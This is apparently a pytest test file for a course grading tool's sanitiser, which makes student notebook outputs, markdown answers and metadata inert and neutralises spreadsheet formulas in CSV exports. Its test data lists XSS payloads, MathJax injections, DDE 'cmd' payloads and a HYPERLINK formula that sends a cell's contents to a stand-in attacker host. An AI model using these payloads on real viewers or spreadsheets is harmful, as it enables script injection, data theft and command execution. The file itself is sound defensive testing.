"""dlmed.grader.sanitize: what a student submitted reaches an instructor's browser only as inert content."""

import base64
import re

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from dlmed.grader.sanitize import BLOCKED_OUTPUT_NOTE, clean_html, clean_markdown, sanitize_notebook, spreadsheet_safe

ACTIVE = re.compile(r"<\s*(script|iframe|object|embed|svg|style|form|meta|link|base)\b|\bon[a-z]+\s*=|javascript:",
                    re.IGNORECASE)

ATTACKS = [
    '<script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '<IMG SRC=x OnError=alert(1)>',
    '<svg onload=alert(1)><circle r=4/></svg>',
    '<iframe src="/api/contents"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<details open ontoggle=alert(1)>x</details>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<style>body{background:url(/api/terminals)}</style>',
    '<form action="/api/contents" method="post"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<img src="/api/contents/x.txt">',
    '<img src="http://127.0.0.1:8888/logout">',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_clean_html_leaves_nothing_active(attack):
    """Scripts, handlers, frames, script URLs and requests to the server are removed from HTML."""
    cleaned = clean_html(attack)
    assert type(cleaned) is str, f"clean_html: expected str, got {type(cleaned).__name__}"
    assert not ACTIVE.search(cleaned), f"clean_html({attack!r}) left active markup: {cleaned!r}"
    assert not re.search(r"src=\"(?!data:image/)", cleaned), f"clean_html({attack!r}) kept a remote image: {cleaned!r}"


@pytest.mark.parametrize("attack", ATTACKS + ["[x](javascript:alert(1))", "[x](JaVa\tScRiPt:alert(1))",
                                              "![p](/api/contents/x)", "[r]: /api/terminals\n\n![p][r]",
                                              "$\\href{javascript:alert(1)}{x}$", "$\\require{begingroup}$",
                                              # markup dressed as code spans that markdown does not read as code
                                              "\\`<img src=x onerror=alert(1)>`", "``<img src=x onerror=alert(1)>`",
                                              '<img alt="`" src=x onerror=alert(1) title="`">',
                                              "    `x\n<img src=x onerror=alert(1)>\n    `",
                                              "`a` <img src=x onerror=alert(1)> `b`"])
def test_clean_markdown_leaves_nothing_active(attack):
    """Written answers lose active markup, script links, remote images and MathJax's dangerous commands."""
    cleaned = clean_markdown("My answer:\n\n" + attack)
    assert not ACTIVE.search(cleaned), f"clean_markdown({attack!r}) left active markup: {cleaned!r}"
    assert "/api/" not in cleaned, f"clean_markdown({attack!r}) kept a request to the server: {cleaned!r}"
    assert not re.search(r"\\(href|require)\b", cleaned), f"clean_markdown({attack!r}) kept a MathJax command: {cleaned!r}"


@pytest.mark.parametrize("text", [
    "About 135 steps: N / B, rounded up.\n\n> the last batch is smaller\n\n* one\n* two",
    "Convolutions share weights: $k \\times k \\times C_{in} \\times C_{out}$ and $a<b$.\n\n$$p < 0.05$$",
    "See <https://stanfordmlgroup.github.io/competitions/mura/> and [the paper](https://arxiv.org/abs/1712.06957).",
    "![my plot](attachment:plot.png)",
    "`x = a & b` and **bold** and a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "while `step < warmup_steps`; `stratify=<labels of kept>` and ``a`<b>`` (code spans show text, not tags)",
])
def test_clean_markdown_keeps_ordinary_answers(text):
    """Markdown without markup (quotes, math, autolinks, attachments, tables) comes back unchanged."""
    assert clean_markdown(text) == text, f"clean_markdown changed an ordinary answer: {clean_markdown(text)!r}"


def test_clean_html_keeps_tables_and_embedded_images():
    """A pandas DataFrame's table and an embedded PNG survive; the DataFrame's <style> goes."""
    import pandas as pd

    table = pd.DataFrame({"model": ["cnn", "mlp"], "accuracy": [0.98, 0.91]}).to_html()
    cleaned = clean_html("<style scoped>.x{color:red}</style>" + table)
    for kept in ("<table", "<th>", "cnn", "0.91"):
        assert kept in cleaned, f"clean_html dropped {kept!r} from a DataFrame: {cleaned[:300]!r}"
    assert "<style" not in cleaned and "color:red" not in cleaned, f"clean_html kept the <style>: {cleaned[:200]!r}"
    image = '<img src="data:image/png;base64,iVBORw0KGgo=" width="20">'
    assert clean_html(image) == image, f"clean_html changed an embedded PNG: {clean_html(image)!r}"


def _notebook_with_everything():
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    code = new_code_cell("display(...)", outputs=[
        new_output("display_data", data={"text/html": "<b>ok</b><script>alert(1)</script>", "text/plain": "ok"}),
        new_output("display_data", data={"application/javascript": "alert(1)"}),
        new_output("display_data", data={"image/svg+xml": svg, "text/plain": "<Figure>"}),
        new_output("display_data", data={"image/png": "iVBORw0KGgo=", "text/plain": "<Figure>"},
                   metadata={"image/png": {"width": '1 onerror=alert(1)', "height": 30}}),
        new_output("execute_result", data={"text/plain": "0.5"}, execution_count=3),
        new_output("stream", name="stdout", text="<script>printed text is escaped by nbconvert</script>\n"),
    ])
    code.metadata["tags"] = ["ok-tag", 'x" onmouseover="alert(1)']
    written = new_markdown_cell("My answer <img src=x onerror=alert(1)>")
    written.metadata["nbgrader"] = {"grade_id": "q1_steps_per_epoch", "solution": True, "grade": True, "points": 1}
    raw = new_raw_cell("<script>alert(3)</script>")
    raw.metadata["format"] = "text/html"
    notebook = new_notebook(cells=[code, written, raw])
    notebook.metadata["widgets"] = {'application/vnd.jupyter.widget-state+json"><script>alert(4)</script>': {}}
    notebook.metadata["title"] = "<script>alert(5)</script>"
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return notebook


def test_sanitize_notebook_cleans_outputs_answers_and_metadata():
    """Every rich output type, written answers, raw cells and attribute-bound metadata come out inert."""
    notebook = _notebook_with_everything()
    notes = sanitize_notebook(notebook)
    nbformat.validate(notebook)
    code, written, raw = notebook.cells
    html, javascript, svg, png, result, stream = code.outputs
    assert html.data == {"text/html": "<b>ok</b>", "text/plain": "ok"}, f"HTML output: {html.data}"
    assert javascript.data == {"text/plain": BLOCKED_OUTPUT_NOTE.format(kinds="application/javascript")}, (
        f"JavaScript output: expected a visible note instead, got {javascript.data}")
    assert set(svg.data) == {"text/html", "text/plain"}, f"SVG output types: {sorted(svg.data)}"
    shown = svg.data["text/html"]
    assert shown.startswith('<img alt="SVG image" src="data:image/svg+xml;base64,'), f"SVG output: {shown[:80]!r}"
    assert base64.b64decode(shown.split(",", 1)[1].rstrip('">')).decode().startswith("<svg"), "SVG image: other data"
    assert png.metadata == {"image/png": {"height": 30}}, f"image metadata: expected only the numeric height, got {png.metadata}"
    assert result.data == {"text/plain": "0.5"} and stream.text.startswith("<script>"), "plain text must be kept as it is"
    assert code.metadata["tags"] == ["ok-tag"], f"cell tags: {code.metadata['tags']}"
    assert written.source == "My answer <img>", f"written answer: {written.source!r}"
    assert "script" not in raw.source and "format" not in raw.metadata, f"raw cell: {raw.source!r} {raw.metadata}"
    assert sorted(notebook.metadata) == ["kernelspec"], f"notebook metadata left: {sorted(notebook.metadata)}"
    assert notes == ["cell 1: active markup in an output of type text/html was made inert",
                     "cell 1: an output of type application/javascript was removed",
                     "cell 1: active markup in an output of type image/svg+xml was made inert",
                     "cell 'q1_steps_per_epoch': markup in a markdown cell was made inert",
                     "cell 3: markup in a raw cell was made inert"], f"notes: {notes}"


def test_ordinary_outputs_draw_no_note():
    """A DataFrame (its <style> goes quietly) and a progress bar's widget view are not worth a note."""
    import pandas as pd

    table = pd.DataFrame({"a": [1, 2]})
    progress = {"application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2, "version_minor": 0},
                "text/plain": "100%|##########| 3/3 [00:00<00:00, 12.1it/s]"}
    notebook = new_notebook(cells=[new_code_cell("table", outputs=[
        new_output("execute_result", data={"text/html": table._repr_html_(), "text/plain": repr(table)}, execution_count=1),
        new_output("display_data", data=progress)])])
    assert sanitize_notebook(notebook) == [], "ordinary outputs drew notes"
    shown, bar = notebook.cells[0].outputs
    assert "<table" in shown.data["text/html"] and "<style" not in shown.data["text/html"], shown.data["text/html"][:200]
    assert bar.data == {"text/plain": progress["text/plain"]}, f"progress bar: {bar.data}"


def test_sanitize_notebook_is_idempotent_and_quiet_on_the_labs():
    """A clean notebook stays as it is and draws no note: the lab notebooks themselves are untouched."""
    from tests.conftest import PROJECT_ROOT

    for path in sorted((PROJECT_ROOT / "source").glob("*/*.ipynb")):
        notebook = nbformat.read(str(path), as_version=4)
        before = nbformat.writes(notebook)
        assert sanitize_notebook(notebook) == [], f"{path.name}: notes on the instructor's own notebook"
        assert nbformat.writes(notebook) == before, f"{path.name}: the instructor's notebook was changed"
    notebook = _notebook_with_everything()
    sanitize_notebook(notebook)
    once = nbformat.writes(notebook)
    assert sanitize_notebook(notebook) == [] and nbformat.writes(notebook) == once, "a second pass changed the notebook"


def test_course_configuration_sanitises_everywhere():
    """nbgrader_config.py puts the sanitiser into autograde, feedback and the Formgrader's HTML exporter."""
    from traitlets.config import Config, PyFileConfigLoader

    from tests.conftest import PROJECT_ROOT

    config = PyFileConfigLoader("nbgrader_config.py", path=str(PROJECT_ROOT)).load_config()
    assert isinstance(config, Config)
    name = "dlmed.course.grading.SanitizeStudentContent"
    autograde = [str(p) for p in config.Autograde.autograde_preprocessors]
    assert name in autograde and autograde.index(name) > autograde.index("nbgrader.preprocessors.Execute"), (
        f"Autograde.autograde_preprocessors: the sanitiser must run after Execute, got {autograde}")
    assert name in [p if isinstance(p, str) else "" for p in config.GenerateFeedback.preprocessors], (
        "GenerateFeedback.preprocessors lacks the sanitiser")
    assert config.HTMLExporter.preprocessors == [name] and config.HTMLExporter.sanitize_html is True, (
        "the Formgrader's HTMLExporter must sanitise too")


def test_preprocessor_runs_where_nbgrader_lists_it():
    """nbgrader registers listed preprocessors without enabling them: the sanitiser must be on by itself."""
    from nbconvert.exporters import NotebookExporter

    exporter = NotebookExporter()
    exporter.register_preprocessor("dlmed.course.grading.SanitizeStudentContent")  # as nbgrader's converters do
    converted, _ = exporter.from_notebook_node(_notebook_with_everything())
    assert "onerror" not in converted and "alert(" not in converted, "the listed sanitiser did not run"


# Spreadsheet formulas in what the grader writes to CSV (names from the learning platform,
# student ids, notes, the similarity report): each attack and what a spreadsheet gets.
FORMULA_ATTACKS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("=cmd|' /C calc'!A0", "\'=cmd|' /C calc'!A0"),  # DDE
    ("+1+cmd|' /C calc'!A0", "\'+1+cmd|' /C calc'!A0"),
    ("-2+3", "\'-2+3"),
    ("@SUM(A1:A9)", "\'@SUM(A1:A9)"),
    ("\t=1+1", "\'\t=1+1"),
    ("\r=1+1", "\'\r=1+1"),
    ('  "=1+1', '\'  "=1+1'),  # blanks and quotes before the formula
    ("\uff1d1+1", "\'\uff1d1+1"),  # fullwidth equals sign
    ("Ada Lovelace", "Ada Lovelace"),  # ordinary text unchanged
    ("ada_1001", "ada_1001"),
]


@pytest.mark.parametrize("attack, outcome", FORMULA_ATTACKS)
def test_spreadsheet_safe(attack, outcome):
    """A cell that a spreadsheet would run as a formula is written as text (a leading quote)."""
    assert spreadsheet_safe(attack) == outcome, f"spreadsheet_safe({attack!r}) = {spreadsheet_safe(attack)!r}"


def test_spreadsheet_safe_keeps_numbers():
    """Scores stay numbers (a negative one too), and None stays empty."""
    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(3) == 3 and spreadsheet_safe(None) is None
